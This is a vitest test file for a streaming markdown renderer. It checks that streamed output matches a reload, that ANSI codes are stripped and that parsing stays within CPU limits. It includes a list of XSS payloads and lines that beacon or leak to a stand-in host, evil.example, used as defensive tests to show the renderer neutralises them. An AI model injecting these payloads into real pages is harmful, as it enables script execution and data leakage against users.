// @vitest-environment jsdom
import fc from 'fast-check';
import { describe, expect, test, vi } from 'vitest';
import { splitBlocks } from '../../src/ui/renderer/blocks.ts';
import { createPlain, plainText } from '../../src/ui/renderer/plain.ts';
import { createProse } from '../../src/ui/renderer/prose.ts';

// The streaming parser asserts on odd input; the build leaves its assertions out.
vi.spyOn(console, 'assert').mockImplementation(() => {});

const SCENE = [
  'Three paths deliver one event **twice**. In each, `deliver()`\nhad the [request](https://example.org/a?b=1&c=2).\n\n',
  '# Title\n\n## Lesser\ntext right under it\n\nSetext\n======\n\n',
  '1. one\n2. two\n\n   still two\n\n3. three\n   - nested\n   - nested too\n\nafter the list\n\n',
  '- a\n- b\n\n\n- c\n  ```js\n  const x = 1;\n\n  y();\n  ```\n- d\n\n* other list\n\n',
  '| Path | n |\n| --- | ---: |\n| a | 1 |\n| `b` | 22 |\n\n',
  'before the fence\n```ts\nexport const a = 1;\n\n\n// ``` no end\nlet b = "<b>";\n```\nafter the fence\n\n',
  '> quoted\n> more\n\n---\n\n    indented code\n\n    goes on\n\n~~~\ntilde\n```\n~~~\n\n',
  '![pixel](https://evil.example/p.png) and ~~gone~~ and <b>html</b> &amp; https://example.org.\n\n',
  '\u001b[31mred\u001b[0m text\r\nwith a CR\r\n\r\n- [x] done\n- [ ] open\n\nthe tail is **open and `never',
].join('');

const inPieces = (text: string, cuts: number[]): string[] => {
  const at = [...new Set(cuts.map((cut) => cut % (text.length + 1)))].sort((a, b) => a - b);
  return [...at, text.length].map((end, i) => text.slice(at[i - 1] ?? 0, end));
};

function streamed(pieces: string[]): string {
  const root = document.createElement('div');
  const prose = createProse(root);
  let text = '';
  for (const piece of pieces) {
    text += piece;
    prose.show(text);
  }
  prose.settle(text);
  return root.innerHTML;
}

function reloaded(text: string): string {
  const root = document.createElement('div');
  createProse(root).settle(text);
  return root.innerHTML;
}

const cuts = fc.array(fc.nat(), { maxLength: 80 });
const markdown = fc
  .array(
    fc.constantFrom(
      ...[
        '\n',
        '\n\n',
        '- ',
        '1. ',
        '12',
        '. x',
        '```',
        '```js\n',
        '~~~',
        '    ',
        '  ',
        '> ',
        '# ',
        '| a | b |\n|---|---|\n',
      ],
      ...[
        'word',
        '**',
        '*',
        '`',
        '[a](',
        'https://a.b/c',
        ')',
        '![',
        '\r',
        '\u001b[3',
        '1m',
        '\t',
        '---',
        '<b>',
        '\u0000',
        'é',
      ],
    ),
    { maxLength: 60 },
  )
  .map((pieces) => pieces.join(''));

describe('blocks', () => {
  test('blocks joined are the text', () => {
    fc.assert(fc.property(markdown, (text) => splitBlocks(text).join('') === text));
    expect(splitBlocks(SCENE).join('')).toBe(SCENE);
  });

  test('a settled block is not cut inside a fence, and a list with blank lines stays whole', () => {
    const blocks = splitBlocks('1. a\n\n2. b\n\n   c\n\nend\n\n```\nx\n\ny\n```\nz');
    expect(blocks).toEqual(['1. a\n\n2. b\n\n   c\n\n', 'end\n\n', '```\nx\n\ny\n```\n', 'z']);
  });

  test('a block is settled as soon as its successor begins, not when that is over', () => {
    const root = document.createElement('div');
    createProse(root).show('first\n\nsecond');
    expect([...root.children].map((node) => node.className)).toEqual(['block', 'block tail']);
  });
});

describe('plain text', () => {
  test('pieces cleaned one by one are the whole cleaned at once', () => {
    const ansi = fc
      .array(
        fc.constantFrom('\u001b', '[', '3', '1', 'm', ']0;', '\u0007', '\\', '\r', '\n', 'a', ' ', '\u009b'),
        { maxLength: 40 },
      )
      .map((pieces) => pieces.join(''));
    fc.assert(
      fc.property(ansi, cuts, (text, at) => {
        const plain = createPlain();
        const pieces = inPieces(text, at).map((piece) => plain.push(piece));
        return pieces.join('') + plain.end() === plainText(text);
      }),
      // What once escaped a hundred random runs: a CR, half a sequence, and the LF behind it.
      {
        numRuns: 2000,
        examples: [
          ['\r\u001b\\\n', [2]],
          ['\r\u001b[m\n', [4]],
        ],
      },
    );
  });
});

describe('prose', () => {
  test('AT2 a streamed answer ends as the same nodes that a reload renders', () => {
    const whole = reloaded(SCENE);
    fc.assert(
      fc.property(cuts, (at) => {
        expect(streamed(inPieces(SCENE, at))).toBe(whole);
      }),
      { numRuns: 30 },
    );
    fc.assert(
      fc.property(markdown, cuts, (text, at) => {
        expect(streamed(inPieces(text, at))).toBe(reloaded(text));
      }),
      { numRuns: 200 },
    );
  });

  test('a settled block keeps its nodes while more text comes', () => {
    const root = document.createElement('div');
    const prose = createProse(root);
    prose.show('first\n\nsecond');
    const first = root.firstChild;
    prose.show('first\n\nsecond goes on\n\nthird');
    prose.settle('first\n\nsecond goes on\n\nthird');
    expect(root.firstChild).toBe(first);
    expect(root.textContent.replace(/\s+/g, ' ')).toBe('first second goes on third ');
  });

  test('AT8 a text that does not extend the one before is built anew in one step', () => {
    const root = document.createElement('div');
    const prose = createProse(root);
    prose.show('old text\n\nmore');
    prose.show('new');
    expect(root.textContent).toBe('new');
  });

  test('code, tables, lists and headings come out as markup', () => {
    const root = document.createElement('div');
    createProse(root).settle(SCENE);
    expect(root.querySelectorAll('figure pre code')).toHaveLength(4);
    expect(root.querySelector('table td.r')?.textContent).toBe('1');
    expect(root.querySelector('ol')?.children).toHaveLength(3);
    expect(root.querySelector('h2.d1')?.textContent).toBe('Title');
    expect(root.textContent).not.toContain('\u001b');
  });
});

const CPU_BOUND_US = 2_000_000;

const ATTACKS = [
  '<script>window.hit = 1</script>',
  '<img src=x onerror="window.hit = 1">',
  '<svg onload="window.hit = 1"><a xlink:href="javascript:window.hit=1">x</a></svg>',
  '[x](javascript:window.hit=1)',
  '[x](JaVaScRiPt:window.hit=1)',
  '[x](java\nscript:window.hit=1)',
  '[x](&#106;avascript:window.hit=1)',
  '[x](data:text/html,<script>window.hit=1</script>)',
  '[x](vbscript:window.hit=1)',
  '<javascript:window.hit=1>',
  '![x](https://evil.example/?leak=1)',
  '![x](javascript:window.hit=1)',
  '![x](data:image/svg+xml,<svg onload=window.hit=1>)',
  '[ref]\n\n[ref]: javascript:window.hit=1',
  '```js" onmouseover="window.hit=1\ncode\n```',
  '```<img/src=x>\ncode\n```',
  '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<form action="https://evil.example"><input name=q></form>',
  '[x](//evil.example/path)',
  '<a href="https://a" onclick="window.hit=1">x</a>',
  '"><math><mtext></table><style><img src=x onerror=window.hit=1>',
  '| <img src=x onerror=window.hit=1> |\n|---|\n| <b>x</b> |',
];

function expectHarmless(root: HTMLElement, from: string): void {
  for (const node of root.querySelectorAll('*')) {
    expect(node.tagName.toLowerCase(), from).not.toMatch(
      /^(script|img|svg|iframe|style|form|input|math|object|link|base)$/,
    );
    for (const { name, value } of node.attributes) {
      expect(name, from).not.toMatch(/^on|^style$|^srcdoc$|^src$/);
      if (name === 'href') expect(value, from).toMatch(/^(https?:|mailto:)/);
    }
    if (node.tagName === 'A' && node.hasAttribute('href')) {
      expect(node.getAttribute('rel'), from).toBe('noopener noreferrer');
      expect(node.getAttribute('target'), from).toBe('_blank');
    }
  }
}

describe('bad input', () => {
  test.each(ATTACKS)('an agent cannot do anything with %j, streaming or settled', (attack) => {
    const root = document.createElement('div');
    const prose = createProse(root);
    let text = '';
    for (const char of `before\n\n${attack}\n\nafter ${attack}`) {
      text += char;
      prose.show(text);
      if (text.length % 7 === 0) expectHarmless(root, attack);
    }
    expectHarmless(root, attack);
    prose.settle(text);
    expectHarmless(root, attack);
    expect('hit' in window).toBe(false);
  });

  test('an image becomes a link with its text, and loads nothing', () => {
    const root = document.createElement('div');
    createProse(root).settle('![a chart](https://example.org/c.png)');
    expect(root.querySelector('img')).toBeNull();
    expect(root.querySelector('a')?.textContent).toBe('a chart');
  });

  test.each([
    ['a thousand quote marks', '>'.repeat(20_000)],
    ['a deep list', Array.from({ length: 400 }, (_, i) => `${' '.repeat(i * 2)}- x`).join('\n')],
    ['a list on one line', '- '.repeat(5_000)],
    ['open brackets', '['.repeat(20_000)],
    ['stars', '*a '.repeat(10_000)],
    ['backticks', '`a'.repeat(10_000)],
    ['open links', '[a]('.repeat(5_000)],
    ['a long line', 'word '.repeat(20_000)],
    ['underscores', '_'.repeat(20_000)],
    ['pipes', `${'|a'.repeat(500)}|\n${'|-'.repeat(500)}|\n`.repeat(4)],
  ])('%s costs less than two seconds of CPU', (_, text) => {
    const root = document.createElement('div');
    // CPU, not the clock: a busy machine is no fault of a parser.
    const started = process.cpuUsage();
    const prose = createProse(root);
    for (let at = 512; at < text.length + 512; at += 512) prose.show(text.slice(0, at));
    prose.settle(text);
    expect(process.cpuUsage(started).user).toBeLessThan(CPU_BOUND_US);
    expect(root.textContent.length).toBeGreaterThan(0);
  });
});
